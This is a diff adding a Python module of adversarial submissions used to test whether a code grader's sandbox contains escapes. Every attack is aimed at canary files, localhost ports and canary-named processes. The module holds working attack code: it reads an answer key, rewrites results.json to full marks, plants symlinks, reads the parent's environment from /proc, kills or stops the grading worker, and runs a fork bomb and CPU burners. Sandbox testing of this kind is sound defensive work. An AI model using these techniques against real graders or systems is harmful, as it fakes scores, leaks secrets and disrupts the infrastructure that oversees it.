@@ -1,0 +1,189 @@
+"""The attacks of the adversarial submissions that are a correct solution plus one attack.
+
+``make_examples.py`` appends each to the reference, so that a contained attack leaves the
+submission its honest full marks and an escaped one shows in its grade or on disk. They
+aim only at what the grader's tests set up: folders and files whose path holds
+``CANARY``, listeners on ``PORTS`` of 127.0.0.1 and on ``UNIX_SOCKET``, and processes
+whose command line holds ``CANARY``; so a test run that goes wrong harms nothing else.
+The grader's temporary folders lie two levels above a submission's workspace (a
+workspace is ``$TMPDIR/lora-grader-XXXX``), which is where a student would look.
+"""
+
+CANARY = "lora-grader-canary"
+PORTS = range(47310, 47320)
+UNIX_SOCKET = f"/tmp/{CANARY}.sock"
+ANSWER_KEY = "answer_key.txt"
+FORK_TARGET, FORK_ESCAPED = 600, 400
+
+PRELUDE = f'''
+
+# %%
+# ---- the attack: everything below runs at import ----
+import os as _os
+import pathlib as _pathlib
+
+CANARY, PORTS, UNIX_SOCKET = {CANARY!r}, range({PORTS.start}, {PORTS.stop}), {UNIX_SOCKET!r}
+AROUND = _pathlib.Path.cwd().parents[1]  # the grader's temporary folders, and what lies beside them
+
+
+def _walk(root):
+    """Every file below root (quietly nothing where it may not look)."""
+    for folder, _, files in _os.walk(root):
+        for name in files:
+            yield _pathlib.Path(folder) / name
+'''
+
+ATTACKS = {
+    "read_outside": ("reads an answer key outside its workspace and raises with its content", '''
+for _path in _walk(AROUND):
+    if _path.name == "answer_key.txt" and CANARY in str(_path):
+        raise RuntimeError("escaped, the answer key says: " + _path.read_text())
+'''),
+    "write_outside": ("writes into canary folders and overwrites every file of the tiny models it finds", '''
+for _path in list(_walk(AROUND)):
+    if CANARY in str(_path):
+        try:
+            (_path.parent / "escaped.txt").write_text("a submission wrote here")
+            if "tiny_models" in _path.parts:
+                _path.write_bytes(b"corrupted by a submission")
+        except OSError:
+            pass
+'''),
+    "rewrite_results": ("rewrites every results.json it finds into full marks", '''
+import json as _json
+
+for _path in list(_walk(AROUND)):
+    if _path.name == "results.json" and CANARY in str(_path):
+        try:
+            _results = _json.loads(_path.read_text())
+            _results["score"] = 100.0
+            _path.write_text(_json.dumps(_results))
+        except (OSError, ValueError):
+            pass
+'''),
+    "tcp_connect": ("connects to TCP listeners on 127.0.0.1", '''
+import socket as _socket
+
+for _port in PORTS:
+    try:
+        with _socket.create_connection(("127.0.0.1", _port), timeout=1) as _connection:
+            _connection.sendall(b"escaped over TCP")
+    except OSError:
+        pass
+'''),
+    "udp_send": ("sends UDP datagrams to 127.0.0.1", '''
+import socket as _socket
+
+try:
+    with _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM) as _sock:
+        for _port in PORTS:
+            _sock.sendto(b"escaped over UDP", ("127.0.0.1", _port))
+except OSError:
+    pass
+'''),
+    "unix_connect": ("connects to a unix socket outside its workspace", '''
+import socket as _socket
+
+try:
+    with _socket.socket(_socket.AF_UNIX) as _sock:
+        _sock.connect(UNIX_SOCKET)
+        _sock.sendall(b"escaped over a unix socket")
+except OSError:
+    pass
+'''),
+    "kill_parent": ("SIGKILLs its parent, the grading worker", '''
+import signal as _signal
+
+try:
+    _os.kill(_os.getppid(), _signal.SIGKILL)
+except OSError:
+    pass
+'''),
+    "stop_parent": ("SIGSTOPs its parent, the grading worker", '''
+import signal as _signal
+
+try:
+    _os.kill(_os.getppid(), _signal.SIGSTOP)
+except OSError:
+    pass
+'''),
+    "kill_grader": ("SIGKILLs every process whose command line names the grader", '''
+import signal as _signal
+
+for _entry in _pathlib.Path("/proc").glob("[0-9]*"):
+    try:
+        _command = (_entry / "cmdline").read_bytes()
+    except OSError:
+        continue
+    if CANARY.encode() in _command and (b"grader" in _command) and int(_entry.name) != _os.getpid():
+        try:
+            _os.kill(int(_entry.name), _signal.SIGKILL)
+        except OSError:
+            pass
+'''),
+    "parent_environ": ("reads its parent's environment from /proc and raises with it", '''
+try:
+    _environment = _pathlib.Path(f"/proc/{_os.getppid()}/environ").read_bytes()
+except OSError:
+    _environment = None
+if _environment is not None:
+    raise RuntimeError("escaped, the worker's environment: " + _environment.decode(errors="replace"))
+'''),
+    "planted_symlinks": ("plants symlinks to the answer key where the grader reads its output and results", '''
+_keys = [p for p in _walk(AROUND) if p.name == "answer_key.txt" and CANARY in str(p)]
+_key = _keys[0] if _keys else AROUND / "answer_key.txt"
+for _name in ("results.json", "feedback.md", "output", "report"):
+    try:
+        _os.symlink(_key, _name)
+    except OSError:
+        pass
+for _path in list(_walk(_pathlib.Path.cwd().parent)):  # the grader's private run folders lie beside
+    if _path.parent.name.startswith("lora-grader-run-") and _path.name == "output":
+        try:
+            _path.unlink()
+            _os.symlink(_key, _path)
+        except OSError:
+            pass
+'''),
+    "fork_bomb": ("forks sleeping children as fast as it can, and raises if it got 400 of them", f'''
+import time as _time
+
+_made = 0
+for _ in range({FORK_TARGET}):
+    try:
+        _pid = _os.fork()
+    except OSError:
+        break
+    if _pid == 0:
+        _time.sleep(120)
+        _os._exit(0)
+    _made += 1
+if _made >= {FORK_ESCAPED}:
+    raise RuntimeError(f"escaped: {{_made}} processes")
+'''),
+    "busy_children": ("starts four detached children that burn CPU for ever, and waits for them", '''
+import time as _time
+
+for _ in range(4):
+    if _os.fork() == 0:
+        _os.setsid()
+        while True:
+            pass
+_time.sleep(300)
+'''),
+    "busy_threads": ("ignores SIGXCPU and burns CPU in four threads for ever", '''
+import signal as _signal
+import threading as _threading
+
+_signal.signal(_signal.SIGXCPU, _signal.SIG_IGN)
+
+
+def _burn():
+    while True:
+        sum(range(10_000))
+
+
+for _ in range(4):
+    _threading.Thread(target=_burn, daemon=True).start()
+'''),
+}
